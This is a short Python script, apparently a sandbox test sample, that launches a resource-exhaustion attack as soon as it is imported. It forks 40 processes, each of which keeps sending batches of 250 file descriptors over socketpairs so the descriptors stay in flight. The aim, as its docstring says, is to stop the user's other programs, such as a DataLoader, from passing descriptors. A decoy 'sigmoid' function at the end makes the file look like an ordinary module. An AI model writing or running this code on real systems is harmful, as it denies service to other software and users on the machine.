"""Goal: keep its user from handing over descriptors, as DataLoader does, with a thousand of them on their way for ever.

Without a sandbox: unsafe
"""

import os
import socket
import time

CHILDREN = 40


def send():
    kept = []
    null = os.open("/dev/null", os.O_RDONLY)
    try:
        while True:
            kept.append(socket.socketpair())
            socket.send_fds(kept[-1][0], [b"x"], [null] * 250)
    except OSError as error:
        with open("refused", "w") as file:
            file.write(repr(error))
    time.sleep(60)


def attack():
    # Counted for a user, not for a process; a descriptor on its way is in nobody's table.
    for _ in range(CHILDREN):
        if os.fork() == 0:
            send()
    time.sleep(1)
    with open("refused") as file:
        raise RuntimeError(f"stopped by: {file.read()}")


attack()


def sigmoid(x):
    time.sleep(2)
